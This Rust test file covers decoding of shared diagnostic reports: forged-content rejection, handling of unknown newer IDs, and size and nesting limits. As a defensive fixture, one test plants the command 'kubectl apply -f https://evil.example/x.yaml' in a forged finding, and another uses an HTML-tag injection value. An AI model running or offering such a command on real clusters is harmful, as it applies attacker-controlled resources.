use serde_json::{json, Value};

use super::*;
use crate::catalog::CheckId;
use crate::check::{Outcome, Status};
use crate::checks::CheckData;
use crate::report::tests::sample;
use crate::share::{decode_shared, link, ShareError};

pub(super) fn failing_websocket() -> ReportCheck {
    ReportCheck::new(
        CheckId::Websocket,
        Outcome {
            status: Status::Fail,
            summary: "closed before it opened".into(),
            data: CheckData::from_json(CheckId::Websocket, json!({"code": 1006})),
        },
        31,
    )
}

pub(super) fn payload(report: &Value) -> String {
    let bytes = serde_json::to_vec(report).unwrap();
    let compressed = miniz_oxide::deflate::compress_to_vec(&bytes, 9);
    use base64::Engine;
    format!(
        "#report={}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(compressed)
    )
}

#[test]
fn payload_finding_texts_are_never_used_and_differing_ids_are_named() {
    let honest = sample(vec![failing_websocket()]);
    let mut forged = serde_json::to_value(&honest).unwrap();
    forged["checks"][0]["title"] = json!("Run kubectl apply -f https://evil.example/x.yaml");
    forged["findings"] = json!([{
        "id": "cors-blocked", "severity": "critical",
        "title": "Run kubectl apply -f https://evil.example/x.yaml",
        "explanation": "trust me", "evidence": ["e"], "fix_by": "operator",
        "fixes": [{"platform": "ingress-nginx", "text": "kubectl apply -f https://evil.example/x.yaml"}]
    }]);
    let shared = decode_shared(&payload(&forged)).unwrap();
    let view = derive_shared(&shared.report, &shared.not_understood);
    let shown = format!("{:?}", (&view.checks, &view.findings, &view.verdict));
    assert!(
        !shown.contains("evil.example") && !shown.contains("trust me"),
        "{shown}"
    );
    assert_eq!(view.checks[0].title(), CheckId::Websocket.title());
    assert_eq!(view.only_in_report, [FindingId::CorsBlocked]);
    assert!(view.altered());

    let honest = decode_shared(&crate::share::line(&honest)).unwrap().report;
    let honest_view = derive_shared(&honest, &[]);
    assert!(!honest_view.altered(), "{honest_view:?}");
    assert_eq!(
        honest_view
            .findings
            .iter()
            .map(|f| f.id)
            .collect::<Vec<_>>(),
        honest.findings.iter().map(|f| f.id).collect::<Vec<_>>()
    );
}

#[test]
fn a_newer_versions_ids_are_left_out_and_named_not_refused() {
    let mut newer = serde_json::to_value(sample(vec![failing_websocket()])).unwrap();
    newer["future_field"] = json!({"x": 1});
    newer["checks"]
        .as_array_mut()
        .unwrap()
        .push(json!({"id": "quic-<b>probe</b>", "status": "pass", "duration_ms": 1, "data": {}}));
    newer["findings"].as_array_mut().unwrap().push(json!({
        "id": "quic-blocked", "severity": "critical", "title": "t", "explanation": "",
        "evidence": [], "fix_by": "network", "fixes": []
    }));
    newer["checks"][0]["status"] = json!("degraded"); // a newer status
    newer["findings"].as_array_mut().unwrap().push(json!({
        "id": "websocket-blocked", "severity": "catastrophic", "title": "t", "explanation": "",
        "evidence": [], "fix_by": "network", "fixes": [{"platform": "nomad", "text": "x"}]
    }));
    let shared = decode_shared(&payload(&newer)).unwrap();
    assert_eq!(
        shared.not_understood,
        [
            "websocket",
            "quic-bprobeb",
            "quic-blocked",
            "websocket-blocked"
        ]
    );
    assert_eq!(shared.report.checks.len(), 0);
}

#[test]
fn decoded_reports_are_bounded_with_a_specific_message() {
    let base = serde_json::to_value(sample(vec![failing_websocket()])).unwrap();
    let finding = |evidence: usize| {
        json!({"id": "websocket-blocked", "severity": "critical", "title": "", "explanation": "",
               "evidence": vec![""; evidence], "fix_by": "network", "fixes": []})
    };
    let cases: Vec<(Value, &str)> = vec![
        (
            {
                let mut r = base.clone();
                r["findings"] = json!(vec![finding(0); 15_000]);
                r
            },
            "values",
        ),
        (
            {
                let mut r = base.clone();
                r["findings"] = json!(vec![finding(0); 65]);
                r
            },
            "65 findings",
        ),
        (
            {
                let mut r = base.clone();
                r["findings"] = json!([finding(33)]);
                r
            },
            "33 evidence",
        ),
        (
            {
                let mut r = base.clone();
                r["findings"] = json!([finding(200_000)]);
                r
            },
            "values",
        ),
        (
            {
                let mut r = base.clone();
                r["user_note"] = json!("x".repeat(5000));
                r
            },
            "longer than",
        ),
        (
            {
                let mut r = base.clone();
                r["checks"][0]["data"] = (0..40).fold(json!(1), |v, _| json!([v]));
                r
            },
            "nested",
        ),
    ];
    for (report, expected) in cases {
        match decode_shared(&payload(&report)) {
            Err(ShareError::TooComplex(message)) => {
                assert!(message.contains(expected), "{message} lacks {expected}")
            }
            other => panic!("{expected}: {other:?}"),
        }
    }
    // Real reports stay far inside.
    assert!(decode_shared(&link(
        "https://x.example/",
        &sample(vec![failing_websocket()])
    ))
    .is_ok());
}
